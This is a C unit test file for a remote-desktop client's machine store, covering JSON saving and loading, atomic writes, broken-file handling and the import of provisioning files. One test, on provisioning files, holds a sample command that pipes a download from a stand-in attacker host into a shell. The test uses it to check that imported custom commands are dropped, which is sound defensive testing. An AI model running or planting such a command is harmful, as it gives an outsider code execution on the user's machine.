/* test-machine-store.c: machines.json — round trip, mode, atomic saves, broken files never
 * overwritten, saving on an idle after changes, sorting, provisioning files. */
#include <fcntl.h>
#include <glib/gstdio.h>
#include <signal.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <unistd.h>

#include "cv-app-error.h"
#include "cv-app-test.h"
#include "cv-machine-store.h"

static char *test_dir;

typedef struct {
  char *dir;  /* a fresh directory for this test */
  char *path; /* DIR/culvert/machines.json, not there yet */
  CvMachineStore *store;
  GError *save_error; /* the last "save-failed" */
  guint n_save_failed;
} Fixture;

static void
on_save_failed (CvMachineStore *store, const GError *error, gpointer user_data)
{
  Fixture *fixture = user_data;

  g_clear_error (&fixture->save_error);
  fixture->save_error = g_error_copy (error);
  fixture->n_save_failed++;
}

static void
fixture_set_up (Fixture *fixture, gconstpointer data)
{
  g_autofree char *template = g_build_filename (test_dir, "store-XXXXXX", NULL);

  fixture->dir = g_mkdtemp (g_steal_pointer (&template));
  g_assert_nonnull (fixture->dir);
  fixture->path = g_build_filename (fixture->dir, "culvert", "machines.json", NULL);
  fixture->store = cv_machine_store_new (fixture->path);
  g_signal_connect (fixture->store, "save-failed", G_CALLBACK (on_save_failed), fixture);
}

static void
fixture_tear_down (Fixture *fixture, gconstpointer data)
{
  g_assert_finalize_object (fixture->store);
  g_clear_error (&fixture->save_error);
  g_free (fixture->path);
  g_free (fixture->dir);
}

static CvMachine *
new_machine (const char *name)
{
  CvMachine *machine = cv_machine_new ();
  g_autoptr (CvMachineService) vnc = cv_machine_service_new (CV_SERVICE_PRESET_VNC);

  cv_machine_set_name (machine, name);
  cv_machine_set_gateway (machine, "relay.acme.example", 0);
  cv_machine_set_session (machine, "acme-office");
  cv_machine_add_service (machine, vnc);
  return machine;
}

static char *
read_file (const char *path)
{
  g_autoptr (GError) error = NULL;
  char *contents = NULL;

  g_file_get_contents (path, &contents, NULL, &error);
  g_assert_no_error (error);
  return contents;
}

static char *
names_of (GListModel *machines)
{
  g_autoptr (GString) names = g_string_new (NULL);

  for (guint i = 0; i < g_list_model_get_n_items (machines); i++)
    {
      g_autoptr (CvMachine) machine = g_list_model_get_item (machines, i);

      g_string_append_printf (names, "%s%s", i > 0 ? "," : "", cv_machine_get_name (machine));
    }
  return g_strdup (names->str);
}

static gboolean
no_save_pending (gpointer data)
{
  /* The save runs on an idle: once the default context has nothing left to dispatch, it
   * ran (nothing else is pending in these tests). */
  return !g_main_context_pending (NULL);
}

typedef struct {
  const char *path;
  const char *needle;
  gboolean present;
} FileWait;

static gboolean
file_has (gpointer data)
{
  FileWait *wait = data;
  g_autofree char *contents = NULL;

  if (!g_file_get_contents (wait->path, &contents, NULL, NULL))
    return FALSE;
  return (strstr (contents, wait->needle) != NULL) == wait->present;
}

static void
wait_for_file_to_hold (const char *path, const char *needle)
{
  FileWait wait = { path, needle, TRUE };
  g_autofree char *what = g_strdup_printf ("%s to hold %s", path, needle);

  cv_app_test_wait (file_has, &wait, what);
}

static void
wait_for_file_to_lose (const char *path, const char *needle)
{
  FileWait wait = { path, needle, FALSE };
  g_autofree char *what = g_strdup_printf ("%s to no longer hold %s", path, needle);

  cv_app_test_wait (file_has, &wait, what);
}

static gboolean
save_failed (gpointer data)
{
  return ((Fixture *) data)->n_save_failed > 0;
}

static void
test_missing_file (Fixture *fixture, gconstpointer data)
{
  g_autoptr (GError) error = NULL;
  g_autoptr (CvMachineStore) store = cv_machine_store_new (NULL);
  g_autofree char *default_path = g_build_filename (g_get_user_config_dir (), "culvert",
                                                    "machines.json", NULL);

  g_assert_cmpstr (cv_machine_store_get_path (store), ==, default_path);
  g_assert_true (g_str_has_prefix (default_path, test_dir));

  g_assert_true (cv_machine_store_load (fixture->store, &error));
  g_assert_no_error (error);
  g_assert_cmpuint (g_list_model_get_n_items (cv_machine_store_get_machines (fixture->store)), ==,
                    0);
  /* Loading writes nothing. */
  g_assert_false (g_file_test (fixture->path, G_FILE_TEST_EXISTS));
}

static void
test_round_trip (Fixture *fixture, gconstpointer data)
{
  g_autoptr (CvMachine) front = new_machine ("Front desk PC");
  g_autoptr (CvMachine) lab = new_machine ("Lab VNC");
  g_autoptr (CvMachineStore) again = NULL;
  g_autoptr (GError) error = NULL;
  g_autofree char *dir = g_path_get_dirname (fixture->path);
  g_autofree char *saved = NULL;
  g_autofree char *resaved = NULL;
  CvMachine *found;
  GStatBuf st;

  cv_machine_set_fingerprint (lab,
                              "sha256:"
                              "00112233445566778899aabbccddeeff00112233445566778899aabbccddeeff");
  cv_machine_set_last_used (lab, 1700000000);
  cv_machine_store_add (fixture->store, front);
  cv_machine_store_add (fixture->store, lab);
  g_assert_true (cv_machine_store_save (fixture->store, &error));
  g_assert_no_error (error);

  /* The file and the folders made for it are the user's alone. */
  g_assert_cmpint (g_stat (fixture->path, &st), ==, 0);
  g_assert_cmpint (st.st_mode & 0777, ==, 0600);
  g_assert_cmpint (g_stat (dir, &st), ==, 0);
  g_assert_cmpint (st.st_mode & 0777, ==, 0700);

  saved = read_file (fixture->path);
  g_assert_true (g_str_has_prefix (saved, "{\n  \"version\" : 1,\n  \"machines\" : ["));
  g_assert_null (strstr (saved, "password"));

  again = cv_machine_store_new (fixture->path);
  g_assert_true (cv_machine_store_load (again, &error));
  g_assert_no_error (error);
  g_assert_cmpuint (g_list_model_get_n_items (cv_machine_store_get_machines (again)), ==, 2);
  found = cv_machine_store_find (again, cv_machine_get_id (lab));
  g_assert_nonnull (found);
  g_assert_cmpstr (cv_machine_get_name (found), ==, "Lab VNC");
  g_assert_cmpint (cv_machine_get_last_used (found), ==, 1700000000);
  g_assert_null (cv_machine_store_find (again, "00000000-0000-4000-8000-000000000000"));
  g_assert_true (cv_machine_store_save (again, &error));
  resaved = read_file (fixture->path);
  g_assert_cmpstr (resaved, ==, saved);
}

static void
test_sorted (Fixture *fixture, gconstpointer data)
{
  static const char *const names[] = { "beta", "Alpha", "gamma", "alpha 2", "Delta" };
  GListModel *machines = cv_machine_store_get_machines (fixture->store);
  g_autoptr (CvMachine) gamma = NULL;
  g_autoptr (CvMachineStore) again = NULL;
  g_autofree char *order = NULL;

  for (gsize i = 0; i < G_N_ELEMENTS (names); i++)
    {
      g_autoptr (CvMachine) machine = new_machine (names[i]);

      cv_machine_store_add (fixture->store, machine);
      if (g_str_equal (names[i], "gamma"))
        gamma = g_object_ref (machine);
    }
  order = names_of (machines);
  g_assert_cmpstr (order, ==, "Alpha,alpha 2,beta,Delta,gamma");

  /* A rename moves the machine to its place. */
  cv_machine_set_name (gamma, "AARDVARK");
  g_free (order);
  order = names_of (machines);
  g_assert_cmpstr (order, ==, "AARDVARK,Alpha,alpha 2,beta,Delta");

  cv_machine_store_remove (fixture->store, gamma);
  g_free (order);
  order = names_of (machines);
  g_assert_cmpstr (order, ==, "Alpha,alpha 2,beta,Delta");

  /* Loaded in the same order, whatever the file's. */
  cv_app_test_wait (no_save_pending, NULL, "the automatic save");
  again = cv_machine_store_new (fixture->path);
  g_assert_true (cv_machine_store_load (again, NULL));
  g_free (order);
  order = names_of (cv_machine_store_get_machines (again));
  g_assert_cmpstr (order, ==, "Alpha,alpha 2,beta,Delta");
}

static void
test_auto_save (Fixture *fixture, gconstpointer data)
{
  g_autoptr (CvMachine) machine = new_machine ("Front desk PC");
  g_autoptr (CvMachineService) service = NULL;
  g_autoptr (CvMachineService) ssh = cv_machine_service_new (CV_SERVICE_PRESET_SSH);
  g_autoptr (CvMachine) edited = NULL;

  cv_machine_store_add (fixture->store, machine);
  g_assert_false (g_file_test (fixture->path, G_FILE_TEST_EXISTS));
  wait_for_file_to_hold (fixture->path, "Front desk PC");

  cv_machine_set_session (machine, "renamed-session");
  wait_for_file_to_hold (fixture->path, "renamed-session");

  service = g_list_model_get_item (cv_machine_get_services (machine), 0);
  cv_machine_service_set_local_port (service, 5927);
  wait_for_file_to_hold (fixture->path, "\"local_port\" : 5927");

  cv_machine_add_service (machine, ssh);
  wait_for_file_to_hold (fixture->path, "\"preset\" : \"ssh\"");
  /* A service added later is watched too. */
  cv_machine_service_set_target_port (ssh, 2222);
  wait_for_file_to_hold (fixture->path, "127.0.0.1:2222");

  /* The editor's way: a copy, changed, then taken back at once. */
  edited = cv_machine_copy (machine);
  cv_machine_set_name (edited, "Reception");
  cv_machine_update_from (machine, edited);
  wait_for_file_to_hold (fixture->path, "Reception");

  /* A service removed from its machine no longer saves anything. */
  cv_machine_remove_service (machine, ssh);
  wait_for_file_to_lose (fixture->path, "\"preset\" : \"ssh\"");
  cv_app_test_wait (no_save_pending, NULL, "the automatic save");
  cv_machine_service_set_target_port (ssh, 2223);
  g_assert_false (g_main_context_pending (NULL));

  cv_machine_store_remove (fixture->store, machine);
  wait_for_file_to_lose (fixture->path, "Reception");
  g_assert_cmpuint (fixture->n_save_failed, ==, 0);
}

static void
test_save_on_dispose (Fixture *fixture, gconstpointer data)
{
  g_autoptr (CvMachine) machine = new_machine ("Saved at the end");
  CvMachineStore *store = cv_machine_store_new (fixture->path);
  g_autofree char *contents = NULL;

  cv_machine_store_add (store, machine);
  g_assert_finalize_object (store);
  contents = read_file (fixture->path);
  g_assert_nonnull (strstr (contents, "Saved at the end"));
}

static void
assert_save_fails_atomically (Fixture *fixture, CvMachine *machine, const char *before)
{
  g_autofree char *after = NULL;

  fixture->n_save_failed = 0;
  cv_machine_set_name (machine, "A name that will not be saved");
  cv_app_test_wait (save_failed, fixture, "\"save-failed\"");
  g_assert_error (fixture->save_error, CV_APP_ERROR, CV_APP_ERROR_FAILED);
  g_test_message ("%s", fixture->save_error->message);
  g_assert_true (
    g_str_has_prefix (fixture->save_error->message, "Your machines could not be saved: "));
  g_assert_nonnull (strstr (fixture->save_error->message, "keeps what was saved before"));
  after = read_file (fixture->path);
  g_assert_cmpstr (after, ==, before);
}

static void
test_atomic (Fixture *fixture, gconstpointer data)
{
  g_autoptr (CvMachine) machine = new_machine ("Front desk PC");
  g_autofree char *dir = g_path_get_dirname (fixture->path);
  g_autofree char *before = NULL;
  g_autoptr (GDir) listing = NULL;
  const char *name;
  struct rlimit old_limit, small = { 0 };
  void (*old_handler) (int);

  for (guint i = 0; i < 20; i++)
    {
      g_autoptr (CvMachineService) service = cv_machine_service_new (CV_SERVICE_PRESET_SSH);

      cv_machine_add_service (machine, service);
    }
  cv_machine_store_add (fixture->store, machine);
  g_assert_true (cv_machine_store_save (fixture->store, NULL));
  before = read_file (fixture->path);

  /* A write that fails half way (as on a full disk; root ignores permissions, not this):
   * the old file stays whole. */
  g_assert_cmpint (getrlimit (RLIMIT_FSIZE, &old_limit), ==, 0);
  small.rlim_cur = 256;
  small.rlim_max = old_limit.rlim_max;
  old_handler = signal (SIGXFSZ, SIG_IGN);
  g_assert_cmpint (setrlimit (RLIMIT_FSIZE, &small), ==, 0);
  assert_save_fails_atomically (fixture, machine, before);
  g_assert_cmpint (setrlimit (RLIMIT_FSIZE, &old_limit), ==, 0);
  signal (SIGXFSZ, old_handler);
  /* Only now: the limit would also cut a test log written to a file. */
  g_test_message ("%s", fixture->save_error->message);

  /* A folder the user may not write to. */
  if (geteuid () != 0)
    {
      g_assert_cmpint (g_chmod (dir, 0500), ==, 0);
      assert_save_fails_atomically (fixture, machine, before);
      g_assert_cmpint (g_chmod (dir, 0700), ==, 0);
    }
  else
    g_test_message ("running as root: the read-only folder case cannot fail, left out");

  /* No temporary file is left behind. */
  listing = g_dir_open (dir, 0, NULL);
  while ((name = g_dir_read_name (listing)) != NULL)
    g_assert_cmpstr (name, ==, "machines.json");

  /* Once writing works again, the next change saves everything. */
  cv_machine_set_name (machine, "Saved again");
  wait_for_file_to_hold (fixture->path, "Saved again");
}

static void
write_file (const char *path, const char *contents)
{
  g_autofree char *dir = g_path_get_dirname (path);
  g_autoptr (GError) error = NULL;

  g_assert_cmpint (g_mkdir_with_parents (dir, 0700), ==, 0);
  g_file_set_contents (path, contents, -1, &error);
  g_assert_no_error (error);
}

static void
assert_broken_file_kept (Fixture *fixture, const char *contents, const char *expected)
{
  g_autoptr (CvMachine) machine = new_machine ("Not saved over it");
  g_autoptr (GError) error = NULL;
  g_autofree char *after = NULL;

  write_file (fixture->path, contents);
  g_assert_false (cv_machine_store_load (fixture->store, &error));
  g_assert_error (error, CV_APP_ERROR, CV_APP_ERROR_INVALID);
  g_test_message ("%s", error->message);
  g_assert_true (g_str_has_prefix (error->message, "Culvert cannot read its saved machines: "));
  if (strstr (error->message, expected) == NULL)
    g_error ("expected “%s” in “%s”", expected, error->message);
  g_clear_error (&error);

  /* Neither an automatic nor an explicit save replaces it. */
  fixture->n_save_failed = 0;
  cv_machine_store_add (fixture->store, machine);
  cv_app_test_wait (save_failed, fixture, "\"save-failed\"");
  g_assert_error (fixture->save_error, CV_APP_ERROR, CV_APP_ERROR_FAILED);
  g_assert_true (g_str_has_prefix (fixture->save_error->message, "Your changes are not saved"));
  g_assert_false (cv_machine_store_save (fixture->store, &error));
  g_assert_error (error, CV_APP_ERROR, CV_APP_ERROR_FAILED);
  after = read_file (fixture->path);
  g_assert_cmpstr (after, ==, contents);
  cv_machine_store_remove (fixture->store, machine);
  cv_app_test_wait (no_save_pending, NULL, "the refused save");
}

static void
test_broken_file (Fixture *fixture, gconstpointer data)
{
  g_autofree char *syntax = g_strdup_printf ("%s:4:", fixture->path);
  g_autofree char *fixed = NULL;
  g_autoptr (GError) error = NULL;

  assert_broken_file_kept (fixture,
                           "{\n  \"version\": 1,\n  \"machines\": [\n    {\"name\": \"x\",}\n"
                           "  ]\n}\n",
                           syntax);
  assert_broken_file_kept (fixture, "{\"version\": 1, \"machines\": [{\"nmae\": \"x\"}]}",
                           "machines[0]: nmae: unknown key, did you mean name?");
  assert_broken_file_kept (fixture, "{\"version\": 1, \"machines\": [], \"machines\": []}",
                           "the key \"machines\" is given twice");
  assert_broken_file_kept (fixture, "{\"version\": 2, \"machines\": []}",
                           "another version of Culvert (2)");
  assert_broken_file_kept (fixture, "{\"machines\": []}", "version: required key missing");
  assert_broken_file_kept (fixture, "", "the file is empty");
  assert_broken_file_kept (fixture,
                           "{\"version\": 1, \"machines\": [{\"id\": "
                           "\"7f0c1a8e-2b0d-4c53-9a43-0d2e1f6e8b11\"}, {\"id\": "
                           "\"7f0c1a8e-2b0d-4c53-9a43-0d2e1f6e8b11\"}]}",
                           "machines[1]: id: another machine has the same id");

  /* Once the person has fixed it, it loads and saves again. */
  write_file (fixture->path, "{\"version\": 1, \"machines\": [{\"name\": \"Fixed\"}]}");
  g_assert_true (cv_machine_store_load (fixture->store, &error));
  g_assert_no_error (error);
  g_assert_true (cv_machine_store_save (fixture->store, &error));
  g_assert_no_error (error);
  fixed = read_file (fixture->path);
  g_assert_nonnull (strstr (fixed, "\"name\" : \"Fixed\""));
}

static void
test_provisioning (Fixture *fixture, gconstpointer data)
{
  g_autoptr (CvMachine) machine = new_machine ("Front desk PC");
  g_autofree char *path = g_build_filename (fixture->dir, "front" CV_PROVISIONING_FILE_SUFFIX,
                                            NULL);
  g_autoptr (GFile) file = g_file_new_for_path (path);
  g_autoptr (GError) error = NULL;
  g_autoptr (CvMachine) imported = NULL;
  g_autofree char *contents = NULL;
  g_autofree char *original_json = NULL;
  g_autofree char *imported_json = NULL;
  g_autofree char *notice = NULL;
  g_autoptr (JsonNode) node = json_node_new (JSON_NODE_OBJECT);

  cv_machine_set_last_used (machine, 1700000000);
  g_assert_true (cv_machine_store_export (machine, file, &error));
  g_assert_no_error (error);
  contents = read_file (path);
  g_assert_true (g_str_has_prefix (contents, "{\n  \"culvert_provisioning\" : 1,\n"));
  g_assert_null (strstr (contents, cv_machine_get_id (machine)));
  g_assert_null (strstr (contents, "last_used"));
  g_assert_null (strstr (contents, "password"));

  imported = cv_machine_store_import (file, &notice, &error);
  g_assert_no_error (error);
  g_assert_nonnull (imported);
  g_assert_null (notice);
  g_assert_cmpstr (cv_machine_get_id (imported), !=, cv_machine_get_id (machine));
  g_assert_cmpint (cv_machine_get_last_used (imported), ==, 0);
  json_node_take_object (node, cv_machine_to_json (machine, TRUE));
  original_json = json_to_string (node, FALSE);
  json_node_take_object (node, cv_machine_to_json (imported, TRUE));
  imported_json = json_to_string (node, FALSE);
  g_assert_cmpstr (imported_json, ==, original_json);
  /* Not added to any store by importing. */
  g_assert_null (cv_machine_store_find (fixture->store, cv_machine_get_id (imported)));
}

static void
test_provisioning_refused (Fixture *fixture, gconstpointer data)
{
  static const struct {
    const char *json, *expected;
  } cases[] = {
    { "{\"culvert_provisioning\": 1, \"password\": \"x\", \"machine\": {}}",
      "password: a provisioning file never holds a password" },
    { "{\"culvert_provisioning\": 1, \"machine\": {\"name\": \"x\", \"password\": \"x\"}}",
      "machine: password: a provisioning file never holds a password" },
    { "{\"culvert_provisioning\": 1, \"machine\": {}, \"extra\": 1}", "extra: unknown key" },
    { "{\"culvert_provisioning\": 1, \"machine\": {\"sesion\": \"x\"}}",
      "machine: sesion: unknown key, did you mean session?" },
    { "{\"culvert_provisioning\": 2, \"machine\": {}}", "another version of Culvert" },
    { "{\"machine\": {}}", "culvert_provisioning: required key missing" },
    { "{\"culvert_provisioning\": 1}", "machine: required key missing" },
    { "{\"culvert_provisioning\": 1, \"machine\": []}", "machine: expected an object" },
    { "[1]", "expected an object" },
  };
  g_autofree char *path = g_build_filename (fixture->dir, "bad.culvert", NULL);
  g_autofree char *missing_path = g_build_filename (fixture->dir, "missing.culvert", NULL);
  g_autoptr (GFile) file = g_file_new_for_path (path);
  g_autoptr (GFile) missing = g_file_new_for_path (missing_path);
  g_autoptr (GError) missing_error = NULL;

  for (gsize i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autoptr (GError) error = NULL;
      g_autoptr (CvMachine) machine = NULL;

      write_file (path, cases[i].json);
      machine = cv_machine_store_import (file, NULL, &error);
      g_assert_null (machine);
      g_assert_error (error, CV_APP_ERROR, CV_APP_ERROR_INVALID);
      g_test_message ("%s", error->message);
      g_assert_true (g_str_has_prefix (error->message, path));
      if (strstr (error->message, cases[i].expected) == NULL)
        g_error ("%s: expected “%s” in “%s”", cases[i].json, cases[i].expected, error->message);
    }

  g_assert_null (cv_machine_store_import (missing, NULL, &missing_error));
  g_assert_error (missing_error, CV_APP_ERROR, CV_APP_ERROR_FAILED);
  g_assert_nonnull (strstr (missing_error->message, "missing.culvert"));
}

/* A custom command from a provisioning file is someone else's program run on Connect: it
 * is dropped on import, the service kept (opening nothing), and the notice says what the
 * file wanted.  The machines' own file keeps its commands (the person wrote them). */
static void
test_provisioning_custom_command (Fixture *fixture, gconstpointer data)
{
  g_autoptr (CvMachine) machine = new_machine ("Handed out");
  g_autoptr (CvMachineService) rdp = cv_machine_service_new (CV_SERVICE_PRESET_RDP);
  g_autoptr (CvMachineService) vnc = NULL;
  g_autoptr (CvMachineService) imported_vnc = NULL;
  g_autoptr (CvMachineService) imported_rdp = NULL;
  g_autofree char *path = g_build_filename (fixture->dir, "handed-out.culvert", NULL);
  g_autoptr (GFile) file = g_file_new_for_path (path);
  g_autoptr (GError) error = NULL;
  g_autoptr (CvMachine) imported = NULL;
  g_autoptr (CvMachine) reloaded = NULL;
  g_autofree char *notice = NULL;
  const char *evil = "sh -c 'curl -s http://attacker.example/x | sh; echo {port}'";

  vnc = g_list_model_get_item (cv_machine_get_services (machine), 0);
  cv_machine_service_set_launcher (vnc, CV_LAUNCHER_CUSTOM);
  cv_machine_service_set_custom_command (vnc, evil);
  /* A command kept beside another launcher is dropped too: "Custom" would bring it back. */
  cv_machine_service_set_custom_command (rdp, "xfreerdp /v:{host}:{port}");
  cv_machine_service_set_launcher (rdp, CV_LAUNCHER_NONE);
  cv_machine_add_service (machine, rdp);
  g_assert_true (cv_machine_store_export (machine, file, &error));
  g_assert_no_error (error);

  imported = cv_machine_store_import (file, &notice, &error);
  g_assert_no_error (error);
  g_assert_nonnull (imported);
  g_assert_nonnull (notice);
  g_test_message ("%s", notice);
  g_assert_nonnull (strstr (notice, evil));
  g_assert_nonnull (strstr (notice, "xfreerdp /v:{host}:{port}"));
  g_assert_nonnull (strstr (notice, "Culvert runs no command from a file"));
  g_assert_cmpuint (g_list_model_get_n_items (cv_machine_get_services (imported)), ==, 2);
  imported_vnc = g_list_model_get_item (cv_machine_get_services (imported), 0);
  imported_rdp = g_list_model_get_item (cv_machine_get_services (imported), 1);
  g_assert_cmpint (cv_machine_service_get_launcher (imported_vnc), ==, CV_LAUNCHER_NONE);
  g_assert_null (cv_machine_service_get_custom_command (imported_vnc));
  g_assert_cmpint (cv_machine_service_get_launcher (imported_rdp), ==, CV_LAUNCHER_NONE);
  g_assert_null (cv_machine_service_get_custom_command (imported_rdp));
  /* Without a place for the notice, the commands are dropped all the same. */
  g_clear_object (&imported);
  imported = cv_machine_store_import (file, NULL, &error);
  g_assert_no_error (error);
  g_clear_object (&imported_vnc);
  imported_vnc = g_list_model_get_item (cv_machine_get_services (imported), 0);
  g_assert_null (cv_machine_service_get_custom_command (imported_vnc));

  /* The person's own machines keep theirs. */
  cv_machine_store_add (fixture->store, machine);
  g_assert_true (cv_machine_store_save (fixture->store, &error));
  g_assert_no_error (error);
  {
    g_autoptr (CvMachineStore) again = cv_machine_store_new (fixture->path);

    g_assert_true (cv_machine_store_load (again, &error));
    g_assert_no_error (error);
    reloaded = g_object_ref (cv_machine_store_find (again, cv_machine_get_id (machine)));
    g_assert_finalize_object (g_steal_pointer (&again));
  }
  g_clear_object (&vnc);
  vnc = g_list_model_get_item (cv_machine_get_services (reloaded), 0);
  g_assert_cmpint (cv_machine_service_get_launcher (vnc), ==, CV_LAUNCHER_CUSTOM);
  g_assert_cmpstr (cv_machine_service_get_custom_command (vnc), ==, evil);
  cv_machine_store_remove (fixture->store, machine);
}

/* A file of @size bytes (sparse: nothing is written). */
static void
make_sparse_file (const char *path, goffset size)
{
  int fd = g_open (path, O_WRONLY | O_CREAT | O_TRUNC, 0600);

  g_assert_cmpint (fd, >=, 0);
  g_assert_cmpint (ftruncate (fd, size), ==, 0);
  g_assert_cmpint (close (fd), ==, 0);
}

/* A huge file, or one without end, is refused without being read into memory. */
static void
test_provisioning_too_large (Fixture *fixture, gconstpointer data)
{
  g_autofree char *path = g_build_filename (fixture->dir, "huge.culvert", NULL);
  g_autoptr (GFile) file = g_file_new_for_path (path);
  g_autoptr (GFile) endless = g_file_new_for_path ("/dev/zero");
  g_autoptr (GError) error = NULL;
  gint64 start = g_get_monotonic_time ();
  g_autofree char *notice = NULL;

  make_sparse_file (path, G_GINT64_CONSTANT (2) * 1024 * 1024 * 1024);
  g_assert_null (cv_machine_store_import (file, &notice, &error));
  g_assert_error (error, CV_APP_ERROR, CV_APP_ERROR_INVALID);
  g_test_message ("%s", error->message);
  g_assert_true (g_str_has_prefix (error->message, path));
  g_assert_nonnull (strstr (error->message, "is larger than a provisioning file can be"));
  g_assert_null (notice);
  /* Refused by its size: not read. */
  g_assert_cmpint (g_get_monotonic_time () - start, <, G_USEC_PER_SEC);
  g_clear_error (&error);

  /* Just over the bound, read and refused; just at it, read (and not JSON). */
  make_sparse_file (path, CV_PROVISIONING_FILE_MAX_SIZE + 1);
  g_assert_null (cv_machine_store_import (file, NULL, &error));
  g_assert_nonnull (strstr (error->message, "is larger than a provisioning file can be"));
  g_clear_error (&error);
  make_sparse_file (path, CV_PROVISIONING_FILE_MAX_SIZE);
  g_assert_null (cv_machine_store_import (file, NULL, &error));
  g_assert_null (strstr (error->message, "is larger than"));
  g_clear_error (&error);

  /* No size to ask: what is read is counted. */
  g_assert_null (cv_machine_store_import (endless, NULL, &error));
  g_assert_error (error, CV_APP_ERROR, CV_APP_ERROR_INVALID);
  g_assert_nonnull (strstr (error->message, "is larger than a provisioning file can be"));
  g_clear_error (&error);

  /* The machines' own file has its bound too, and is kept as it is. */
  g_assert_cmpint (g_mkdir_with_parents (fixture->dir, 0700), ==, 0);
  {
    g_autofree char *dir = g_path_get_dirname (fixture->path);

    g_assert_cmpint (g_mkdir_with_parents (dir, 0700), ==, 0);
  }
  make_sparse_file (fixture->path, CV_MACHINE_STORE_FILE_MAX_SIZE + 1);
  g_assert_false (cv_machine_store_load (fixture->store, &error));
  g_assert_error (error, CV_APP_ERROR, CV_APP_ERROR_INVALID);
  g_test_message ("%s", error->message);
  g_assert_nonnull (strstr (error->message, "is larger than"));
}

int
main (int argc, char *argv[])
{
  test_dir = cv_app_test_init (&argc, &argv);

#define ADD(name, func)                                                                            \
  g_test_add ("/machine-store/" name, Fixture, NULL, fixture_set_up, func, fixture_tear_down)
  ADD ("missing-file", test_missing_file);
  ADD ("round-trip", test_round_trip);
  ADD ("sorted", test_sorted);
  ADD ("auto-save", test_auto_save);
  ADD ("save-on-dispose", test_save_on_dispose);
  ADD ("atomic", test_atomic);
  ADD ("broken-file", test_broken_file);
  ADD ("provisioning", test_provisioning);
  ADD ("provisioning-refused", test_provisioning_refused);
  ADD ("provisioning-custom-command", test_provisioning_custom_command);
  ADD ("provisioning-too-large", test_provisioning_too_large);
#undef ADD

  return cv_app_test_finish (test_dir, g_test_run ());
}
